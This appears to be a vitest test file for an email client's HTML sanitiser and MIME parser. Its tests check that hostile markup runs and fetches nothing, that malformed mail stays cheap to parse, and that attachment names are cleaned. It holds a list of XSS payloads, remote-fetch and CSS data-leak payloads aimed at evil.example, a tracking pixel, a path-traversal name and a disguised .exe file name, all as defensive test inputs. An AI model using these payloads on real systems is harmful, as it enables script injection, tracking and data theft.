// Emails that strangers make to run something, to fetch something, or to hold up everybody else.
import { describe, expect, test } from 'vitest'
import { rawMail } from '../../../tests/world/raw-mail.ts'
import { work } from '../../../tests/world/work.ts'
import { cleanMessage } from './clean-message.ts'
import { readContent, readFile } from './message-content.ts'
import { peopleIn } from './people-in.ts'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" j&#x61;va\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/p) }</style>',
  '<style>input[value^="a"] { background-image: \\75rl(https://evil.example/a) }</style>',
  '<div style="background:url(https://evil.example/p)">x</div>',
  '<div style="background-image: image-set(\'https://evil.example/p\' 1x)">x</div>',
  '<div style="width: expression(alert(1)); behavior: url(x)">x</div>',
  '<div style="position: fixed; inset: 0; z-index: 9">over everything</div>',
  '<video poster="https://evil.example/p"><source src="https://evil.example/v" onerror="alert(1)"></video>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<img srcset="https://evil.example/p 1x" lowsrc="https://evil.example/p" dynsrc="x">',
  '<table background="https://evil.example/p"><td background="https://evil.example/p">x</td></table>',
  '<input type=image src="https://evil.example/p" onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><textarea><img src=x onerror=alert(1)></textarea>',
  '<<script>alert(1)//<</script>',
  '<img src="https://evil.example/pixel.gif?user=1" width=1 height=1>',
  '<p id="__proto__" name="body">x</p><a id=location href="https://evil.example">x</a>',
]

describe('HTML of strangers', () => {
  test.each(PAYLOADS)('runs nothing and fetches nothing: %s', (payload) => {
    const { html, quotedHtml } = cleanMessage(`<p>Hello</p>${payload}<div class="gmail_quote">${payload}</div>`)
    for (const one of [html, quotedHtml ?? '']) {
      expect(one).not.toMatch(
        /<(script|svg|math|iframe|form|input|button|base|link|meta|object|embed|video|source|template|textarea|noscript|details)\b/i,
      )
      expect(one).not.toMatch(/<[^>]*\s(on\w+|srcset|lowsrc|dynsrc|background|poster|action|formaction|id|name)\s*=/i)
      expect(one).not.toMatch(/<[^>]*\s(src|href)="(?!https?:|mailto:|tel:|cid:|data:image\/)/i)
      expect(one).not.toMatch(/<[^>]*\ssrc="https?:/i)
      expect(one).not.toMatch(/url\s*\(|@import|expression\s*\(|image-set|position\s*:\s*fixed|\\75/i)
    }
    expect(html).toContain('<p>Hello</p>')
  })

  test('names remote images, so that the owner can ask for them', () => {
    expect(cleanMessage('<img src="//cdn.example/a.png" alt="A"><img src="cid:1@x">')).toEqual({
      html: '<img alt="A" data-remote-src="https://cdn.example/a.png"><img src="cid:1@x">',
      quotedHtml: null,
      hasRemoteImages: true,
    })
  })

  test.each([
    ['a thousand nested tags', '<div>'.repeat(1_000) + 'deep' + '</div>'.repeat(1_000)],
    ['a hundred thousand nested tags', '<b><i>'.repeat(50_000)],
    ['unclosed quotes', '<blockquote type="cite">'.repeat(20_000)],
    ['open brackets', '<'.repeat(400_000)],
    ['attributes without end', `<p ${'a=1 '.repeat(90_000)}>`],
    ['a sheet without end', `<style>${'a{b:c}'.repeat(60_000)}`],
    ['comments', '<!--'.repeat(100_000)],
    ['entities', '&amp;'.repeat(80_000)],
    ['comments of sheets', `<style>${'a/* '.repeat(12_000)}</style>`.repeat(8)],
    ['empty quotes', '<div class="gmail_quote"></div>'.repeat(12_000)],
  ])('%s cost no more than a long email', (_what, html) => {
    const ordinary = work(() => cleanMessage('<p>We talked about it on <b>Monday</b>.</p>\n'.repeat(9_000)))
    expect(work(() => cleanMessage(html))).toBeLessThan(10 * ordinary + 300)
  })

  test('separates what it quotes, unless the reply is below it', () => {
    const top = cleanMessage(
      '<div><p>New</p><div class="gmail_quote">On Monday<blockquote>Old</blockquote></div></div>',
    )
    expect(top).toMatchObject({ html: '<div><p>New</p></div>', quotedHtml: expect.stringContaining('Old') })
    const below = cleanMessage('<p>Hi</p><blockquote type="cite">Old</blockquote><p>New below</p>')
    expect(below.quotedHtml).toBeNull()
    expect(below.html).toContain('New below')
    const outlook = cleanMessage('<p>New</p><div id="divRplyFwdMsg"><b>From:</b> Ada</div><div>Old text</div>')
    expect(outlook).toMatchObject({ html: '<p>New</p>', quotedHtml: expect.stringContaining('Old text') })
  })

  test('of Outlook keeps the sheet that gives its paragraphs their shape', () => {
    const sheet =
      '<style><!-- @font-face {font-family:Calibri; panose-1:2 15;} p.MsoNormal {margin:0;} /* x */ --></style>'
    expect(cleanMessage(`<head>${sheet}</head><p class="MsoNormal">Hi</p>`).html).toMatch(
      /<style>\s*p\.MsoNormal \{margin:0;\}\s*<\/style><p class="MsoNormal">Hi<\/p>/,
    )
  })
})

describe('broken emails', () => {
  test.each([
    ['nothing at all', Buffer.alloc(0)],
    ['bytes of no meaning', Buffer.from(Array.from({ length: 5_000 }, (_, at) => (at * 7919) % 256))],
    ['a boundary that never comes', rawMail({ 'Content-Type': 'multipart/mixed; boundary="x"' }, 'Hello')],
    ['no boundary', rawMail({ 'Content-Type': 'multipart/mixed' }, 'Hello')],
    [
      'an unknown encoding',
      rawMail({ 'Content-Type': 'text/plain; charset=klingon', 'Content-Transfer-Encoding': 'x-zip' }, 'Hello'),
    ],
    ['base64 that is none', rawMail({ 'Content-Transfer-Encoding': 'base64' }, '!!!!')],
    [
      'a part in itself',
      rawMail(
        { 'Content-Type': 'multipart/mixed; boundary="a"' },
        '--a\nContent-Type: multipart/mixed; boundary="a"\n\n'.repeat(50),
      ),
    ],
    [
      'thousands of parts',
      rawMail(
        { 'Content-Type': 'multipart/mixed; boundary="a"' },
        '--a\nContent-Disposition: attachment\n\nx\n'.repeat(5_000),
      ),
    ],
    ['null bytes', rawMail({ Subject: 'a\0b' }, 'a\0b')],
  ])('%s are read as far as they can be', (_what, raw) => {
    const content = readContent(raw)
    expect(content.text).not.toContain('\0')
    expect(content.files.length).toBeLessThanOrEqual(100)
    for (const { part } of content.files) expect(part).toMatch(/^\d{1,3}(\.\d{1,3}){0,12}$/)
    expect(readFile(raw, '99.9')).toBeUndefined()
  })

  test('names of files lead nowhere and hide nothing', () => {
    const file = (name: string) =>
      readContent(
        rawMail(
          { 'Content-Type': 'multipart/mixed; boundary="a"' },
          `--a\nContent-Type: application/x; name="${name}"\n\nx\n--a--`,
        ),
      ).files[0]?.name
    expect(file('../../etc/passwd')).toBe('passwd')
    expect(file('C:\\\\windows\\\\a.exe')).toBe('a.exe')
    expect(file('bill\u202efdp.exe')).toBe('bill fdp.exe')
    expect(file('')).toBe('attachment')
  })

  test('people are read from whatever stands in a header', () => {
    expect(
      peopleIn(['"Hopper, Grace" <Grace@Navona.example>, bob@x.example (Bob); <c@x.example>, nobody, Team:;']),
    ).toEqual([
      { name: 'Hopper, Grace', address: 'grace@navona.example' },
      { name: '', address: 'bob@x.example' },
      { name: '', address: 'c@x.example' },
    ])
    expect(peopleIn(['a@b.example,'.repeat(5_000), 'c@b.example'])).toHaveLength(50)
    expect(peopleIn([`"${'\\'.repeat(9_000)}`])).toEqual([])
  })

  test('recipients are bounded, and brackets without end cost no more than addresses', () => {
    const head = (value: string) => Buffer.from(`To: ${value}\r\n`.repeat(6) + '\r\nHello')
    expect(readContent(head('a@b.example,'.repeat(500))).to).toHaveLength(50)
    const ordinary = work(() => readContent(head('a@b.example,'.repeat(1_300))))
    expect(work(() => readContent(head('('.repeat(16_000))))).toBeLessThan(10 * ordinary + 100)
  })
})
